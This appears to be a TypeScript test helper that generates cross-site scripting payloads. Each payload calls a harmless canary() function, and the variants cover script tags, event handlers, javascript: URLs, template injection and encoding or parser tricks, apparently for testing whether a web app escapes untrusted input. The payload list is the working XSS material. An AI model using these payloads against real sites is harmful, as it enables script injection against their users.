/**
 * Texts that become a script wherever a page takes a stranger's words for its own: as markup, in an attribute, in an
 * address, in a script or a style, by way of a template or by what a parser makes of broken text. Each calls `canary()`.
 */

const SCRIPTS = ['canary(1)', 'alert(1)', 'top.canary(1)', "window['canary'](1)", 'self.canary?.(1)'];

const MARKUP = [
  '<script>CODE</script>',
  '"><script>CODE</script>',
  "'><script>CODE</script>",
  '</td></tr></table><script>CODE</script>',
  '</textarea><script>CODE</script>',
  '</title><script>CODE</script>',
  '</script><script>CODE</script>',
  '--><script>CODE</script><!--',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '<SCRIPT>CODE</SCRIPT>',
  '<img src=x onerror=CODE>',
  '"><img src=x onerror=CODE>',
  '<img src=x onerror="CODE"//',
  '<img/src=x/onerror=CODE>',
  '<svg onload=CODE>',
  '<svg><script>CODE</script></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CODE>',
  '<body onload=CODE>',
  '<iframe src="javascript:CODE"></iframe>',
  '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
  '<object data="javascript:CODE"></object>',
  '<embed src="javascript:CODE">',
  '<a href="javascript:CODE" autofocus onfocus=CODE>x</a>',
  '<details open ontoggle=CODE>x</details>',
  '<input autofocus onfocus=CODE>',
  '<video><source onerror=CODE></video>',
  '<audio src=x onerror=CODE>',
  '<form action="javascript:CODE"><button autofocus>x</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  '<base href="javascript:CODE//">',
  '<link rel=stylesheet href="javascript:CODE">',
  '<style>@import "javascript:CODE";*{background:url("javascript:CODE")}</style>',
  '" onmouseover=CODE autofocus onfocus=CODE x="',
  "' onfocus=CODE autofocus x='",
  '` onerror=CODE `',
  'javascript:CODE',
  'java\tscript:CODE',
  'data:text/html,<script>CODE</script>',
  '\u0024{CODE}',
  '{{constructor.constructor("CODE")()}}',
  '#{CODE}',
  '__proto__',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=CODE>"}}',
  '<template shadowrootmode=open><script>CODE</script></template>',
  '&lt;script&gt;CODE&lt;/script&gt;',
  '\u202e<script>CODE</script>',
  '%3Cscript%3ECODE%3C/script%3E',
] as const;

/** `count` different ones. */
export function payloads(count: number): string[] {
  const all = SCRIPTS.flatMap(code => MARKUP.map(text => text.replaceAll('CODE', code)));
  const different = [...new Set(all)];
  if (different.length < count) throw new Error(`there are only ${different.length} payloads`);
  return different.slice(0, count);
}

/** As a header takes them, which is printable ASCII. */
export function printable(text: string): string {
  return text.replaceAll(/[^\x20-\x7e]/g, '?').trim();
}
